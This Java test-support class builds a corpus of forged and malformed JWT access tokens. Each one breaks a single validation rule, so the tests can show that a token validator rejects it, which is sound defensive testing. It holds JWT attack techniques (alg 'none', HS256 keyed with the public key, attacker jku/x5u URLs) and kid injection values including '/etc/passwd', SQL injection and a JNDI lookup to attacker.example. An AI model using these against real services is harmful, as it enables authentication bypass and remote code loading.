package io.cognate.attacks;

import io.cognate.domain.tokens.SigningKey;
import io.cognate.ports.TokenSigner;
import io.cognate.testing.LocalRsaSigner;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.Signature;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * Tokens an attacker might present, each breaking exactly one rule of an otherwise valid access
 * token. Where a real signature matters (an expired or oversized token, duplicate keys), the
 * token is signed with the pool's real key through {@code realKey}: an attacker cannot do that,
 * but it proves the rule itself refuses the token, not merely the signature check.
 */
public final class AttackCorpus {
    private static final Base64.Encoder B64 = Base64.getUrlEncoder().withoutPadding();

    public record Attack(String name, String token) {
        @Override
        public String toString() {
            return name;
        }
    }

    private final TokenSigner realKey;
    private final String kid;
    private final String issuer;
    private final String clientId;
    private final Instant now;

    public AttackCorpus(TokenSigner realKey, String issuer, String clientId, Instant now) {
        this.realKey = realKey;
        this.kid = SigningKey.of(realKey.publicKey()).keyId();
        this.issuer = issuer;
        this.clientId = clientId;
        this.now = now;
    }

    /** The header of a genuine access token. */
    public String header() {
        return "{\"alg\":\"RS256\",\"kid\":\"" + kid + "\",\"typ\":\"at+jwt\"}";
    }

    /** The claims of a genuine access token; {@code extra} is spliced in before the closing brace. */
    public String claims(long expOffset, long iatOffset, String issuer, String clientId, String tokenUse, String extra) {
        return "{\"sub\":\"" + UUID.randomUUID() + "\",\"iss\":\"" + issuer + "\",\"client_id\":\"" + clientId
                + "\",\"token_use\":\"" + tokenUse + "\",\"scope\":\"aws.cognito.signin.user.admin\""
                + ",\"username\":\"mallory\",\"jti\":\"" + UUID.randomUUID() + "\""
                + ",\"iat\":" + (now.getEpochSecond() + iatOffset) + ",\"exp\":" + (now.getEpochSecond() + expOffset)
                + extra + "}";
    }

    public String validClaims() {
        return claims(3600, 0, issuer, clientId, "access", "");
    }

    /** A token that passes every rule: the control that shows the corpus's base is sound. */
    public String validToken() {
        return signed(header(), validClaims());
    }

    public List<Attack> attacks() {
        var attacks = new ArrayList<Attack>();
        String valid = validToken();
        String[] parts = valid.split("\\.");

        // Algorithm confusion (RFC 8725 §2.1, §3.1).
        attacks.add(new Attack("alg none, no signature",
                enc("{\"alg\":\"none\",\"kid\":\"" + kid + "\",\"typ\":\"at+jwt\"}") + "." + enc(validClaims()) + "."));
        attacks.add(new Attack("alg none, with the real signature",
                enc("{\"alg\":\"none\",\"kid\":\"" + kid + "\",\"typ\":\"at+jwt\"}") + "." + parts[1] + "." + parts[2]));
        attacks.add(new Attack("alg None", unsignedWith("{\"alg\":\"None\",\"kid\":\"" + kid + "\",\"typ\":\"at+jwt\"}")));
        String hsHeader = "{\"alg\":\"HS256\",\"kid\":\"" + kid + "\",\"typ\":\"at+jwt\"}";
        attacks.add(new Attack("HS256 keyed with the public key (DER)",
                hmac(hsHeader, validClaims(), realKey.publicKey().getEncoded())));
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII)).encodeToString(realKey.publicKey().getEncoded())
                + "\n-----END PUBLIC KEY-----\n";
        attacks.add(new Attack("HS256 keyed with the public key (PEM)",
                hmac(hsHeader, validClaims(), pem.getBytes(StandardCharsets.US_ASCII))));
        attacks.add(new Attack("RS512", signedOther("{\"alg\":\"RS512\",\"kid\":\"" + kid + "\",\"typ\":\"at+jwt\"}", validClaims())));

        // Key selection: the kid must name a known key; keys are never fetched.
        KeyPair attacker = LocalRsaSigner.newKeyPair();
        String attackerKid = SigningKey.of((java.security.interfaces.RSAPublicKey) attacker.getPublic()).keyId();
        attacks.add(new Attack("unknown kid", signedBy(attacker, "{\"alg\":\"RS256\",\"kid\":\"" + attackerKid
                + "\",\"typ\":\"at+jwt\"}", validClaims())));
        for (String injected : List.of("../../../../../../dev/null", "/etc/passwd", "x' OR '1'='1", "\\u0000" + kid,
                "https://attacker.example/jwks.json", kid + "\\n", "${jndi:ldap://attacker.example/a}")) {
            attacks.add(new Attack("kid holding " + injected, signedBy(attacker,
                    "{\"alg\":\"RS256\",\"kid\":\"" + injected + "\",\"typ\":\"at+jwt\"}", validClaims())));
        }
        attacks.add(new Attack("no kid", signedBy(attacker, "{\"alg\":\"RS256\",\"typ\":\"at+jwt\"}", validClaims())));
        attacks.add(new Attack("kid not a string", signedBy(attacker, "{\"alg\":\"RS256\",\"kid\":[\"" + kid + "\"],\"typ\":\"at+jwt\"}", validClaims())));
        String attackerJwk = new com.nimbusds.jose.jwk.RSAKey.Builder((java.security.interfaces.RSAPublicKey) attacker.getPublic())
                .keyID(kid).build().toJSONString();
        attacks.add(new Attack("embedded jwk of the attacker's key", signedBy(attacker,
                "{\"alg\":\"RS256\",\"kid\":\"" + kid + "\",\"typ\":\"at+jwt\",\"jwk\":" + attackerJwk + "}", validClaims())));
        attacks.add(new Attack("jku to the attacker's JWKS", signedBy(attacker,
                "{\"alg\":\"RS256\",\"kid\":\"" + kid + "\",\"typ\":\"at+jwt\",\"jku\":\"https://attacker.example/jwks.json\"}", validClaims())));
        attacks.add(new Attack("x5u to the attacker's certificate", signedBy(attacker,
                "{\"alg\":\"RS256\",\"kid\":\"" + kid + "\",\"typ\":\"at+jwt\",\"x5u\":\"https://attacker.example/cert.pem\"}", validClaims())));
        attacks.add(new Attack("crit extension, signed with the real key",
                signed("{\"alg\":\"RS256\",\"kid\":\"" + kid + "\",\"typ\":\"at+jwt\",\"crit\":[\"exp\"]}", validClaims())));
        attacks.add(new Attack("signature by another RSA key with the real kid", signedBy(attacker, header(), validClaims())));

        // Claims, each signed with the real key so only the rule can refuse them.
        attacks.add(new Attack("expired", signed(header(), claims(-3600, -7200, issuer, clientId, "access", ""))));
        attacks.add(new Attack("not yet valid (nbf)", signed(header(), claims(7200, 0, issuer, clientId, "access",
                ",\"nbf\":" + (now.getEpochSecond() + 3600)))));
        attacks.add(new Attack("issued in the future", signed(header(), claims(7200, 3600, issuer, clientId, "access", ""))));
        attacks.add(new Attack("no exp", signed(header(), validClaims().replaceFirst(",\"exp\":\\d+", ""))));
        attacks.add(new Attack("exp as a string", signed(header(), validClaims().replaceFirst("\"exp\":(\\d+)", "\"exp\":\"$1\""))));
        attacks.add(new Attack("wrong iss", signed(header(), claims(3600, 0, "https://attacker.example", clientId, "access", ""))));
        attacks.add(new Attack("iss with a trailing slash", signed(header(), claims(3600, 0, issuer + "/", clientId, "access", ""))));
        attacks.add(new Attack("wrong client_id", signed(header(), claims(3600, 0, issuer, "not-an-allowed-client", "access", ""))));
        attacks.add(new Attack("ID token used as an access token", signed("{\"alg\":\"RS256\",\"kid\":\"" + kid + "\",\"typ\":\"JWT\"}",
                "{\"sub\":\"" + UUID.randomUUID() + "\",\"iss\":\"" + issuer + "\",\"aud\":\"" + clientId
                        + "\",\"token_use\":\"id\",\"cognito:username\":\"mallory\",\"iat\":" + now.getEpochSecond()
                        + ",\"exp\":" + (now.getEpochSecond() + 3600) + "}")));
        attacks.add(new Attack("ID token claims under an access typ", signed(header(),
                "{\"sub\":\"" + UUID.randomUUID() + "\",\"iss\":\"" + issuer + "\",\"aud\":\"" + clientId
                        + "\",\"token_use\":\"id\",\"iat\":" + now.getEpochSecond() + ",\"exp\":" + (now.getEpochSecond() + 3600) + "}")));
        attacks.add(new Attack("access claims under an ID typ", signed("{\"alg\":\"RS256\",\"kid\":\"" + kid + "\",\"typ\":\"JWT\"}", validClaims())));
        attacks.add(new Attack("no typ", signed("{\"alg\":\"RS256\",\"kid\":\"" + kid + "\"}", validClaims())));
        attacks.add(new Attack("duplicate token_use claim", signed(header(),
                validClaims().replace("\"token_use\":\"access\"", "\"token_use\":\"id\",\"token_use\":\"access\""))));
        attacks.add(new Attack("duplicate sub claim", signed(header(), validClaims().replaceFirst("\\{", "{\"sub\":\"admin\","))));
        attacks.add(new Attack("duplicate alg header", signed("{\"alg\":\"none\",\"alg\":\"RS256\",\"kid\":\"" + kid
                + "\",\"typ\":\"at+jwt\"}", validClaims())));
        attacks.add(new Attack("payload not an object", signed(header(), "[" + validClaims() + "]")));

        // Structure and encoding.
        attacks.add(new Attack("truncated signature", valid.substring(0, valid.length() - 10)));
        attacks.add(new Attack("signature removed", parts[0] + "." + parts[1] + "."));
        attacks.add(new Attack("two segments", parts[0] + "." + parts[1]));
        attacks.add(new Attack("five segments (JWE shape)", valid + ".AAAA.BBBB"));
        attacks.add(new Attack("garbled header", "*" + valid.substring(1)));
        attacks.add(new Attack("garbled payload", parts[0] + "." + parts[1].substring(0, 10) + "!" + parts[1].substring(11) + "." + parts[2]));
        attacks.add(new Attack("one payload character changed", parts[0] + "." + flip(parts[1], parts[1].length() / 2) + "." + parts[2]));
        attacks.add(new Attack("padded base64", parts[0] + "==." + parts[1] + "." + parts[2]));
        attacks.add(new Attack("standard base64 alphabet", valid.replace('-', '+').replace('_', '/')
                + (valid.contains("-") || valid.contains("_") ? "" : "+")));
        attacks.add(new Attack("whitespace inside", parts[0] + ". " + parts[1] + "." + parts[2]));
        attacks.add(new Attack("non-ASCII character", parts[0] + "." + parts[1] + "é." + parts[2]));
        attacks.add(new Attack("non-canonical signature encoding", parts[0] + "." + parts[1] + "." + nonCanonical(parts[2])));
        attacks.add(new Attack("empty segments", ".."));
        attacks.add(new Attack("a bare word", "undefined"));
        attacks.add(new Attack("over 16 KB, signed with the real key", signed(header(),
                claims(3600, 0, issuer, clientId, "access", ",\"padding\":\"" + "A".repeat(17 * 1024) + "\""))));
        attacks.add(new Attack("over 16 KB of garbage", "A".repeat(16 * 1024 + 1)));
        return attacks;
    }

    public String signed(String headerJson, String claimsJson) {
        String input = enc(headerJson) + "." + enc(claimsJson);
        return input + "." + B64.encodeToString(realKey.signRs256(input.getBytes(StandardCharsets.US_ASCII)));
    }

    private String unsignedWith(String headerJson) {
        return enc(headerJson) + "." + enc(validClaims()) + ".";
    }

    private String signedOther(String headerJson, String claimsJson) {
        return signedBy(LocalRsaSigner.newKeyPair(), headerJson, claimsJson);
    }

    private static String signedBy(KeyPair keys, String headerJson, String claimsJson) {
        try {
            String input = enc(headerJson) + "." + enc(claimsJson);
            Signature signature = Signature.getInstance("SHA256withRSA");
            signature.initSign(keys.getPrivate());
            signature.update(input.getBytes(StandardCharsets.US_ASCII));
            return input + "." + B64.encodeToString(signature.sign());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String hmac(String headerJson, String claimsJson, byte[] key) {
        try {
            String input = enc(headerJson) + "." + enc(claimsJson);
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(key, "HmacSHA256"));
            return input + "." + B64.encodeToString(mac.doFinal(input.getBytes(StandardCharsets.US_ASCII)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The same bytes spelled differently: a bit the decoder ignores, in the last character, set. */
    private static String nonCanonical(String signature) {
        int unusedBits = (signature.length() * 6) % 8;
        if (unusedBits == 0) {
            throw new IllegalStateException("this signature length has one spelling only");
        }
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        int value = alphabet.indexOf(signature.charAt(signature.length() - 1));
        return signature.substring(0, signature.length() - 1) + alphabet.charAt(value ^ 1);
    }

    private static String flip(String text, int index) {
        char c = text.charAt(index);
        return text.substring(0, index) + (c == 'A' ? 'B' : 'A') + text.substring(index + 1);
    }

    static String enc(String json) {
        return B64.encodeToString(json.getBytes(StandardCharsets.UTF_8));
    }
}
